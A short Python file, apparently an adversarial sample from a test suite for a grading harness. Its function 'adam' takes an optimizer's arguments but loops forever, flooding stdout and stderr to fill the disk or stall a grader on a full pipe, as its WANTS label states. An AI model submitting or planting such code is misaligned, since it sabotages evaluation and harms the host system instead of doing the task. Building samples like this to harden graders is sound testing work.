"""Print without end on both streams and on every descriptor."""

import os

WANTS = "a full disk, or a grader that waits for a full pipe"
LAYER = "deadline"
PROVE = True
ATTACKED = ("adam",)


def adam(theta, gradient, state, **rates):
    while True:
        for descriptor in (1, 2):
            os.write(descriptor, b"flood " * 10_000)
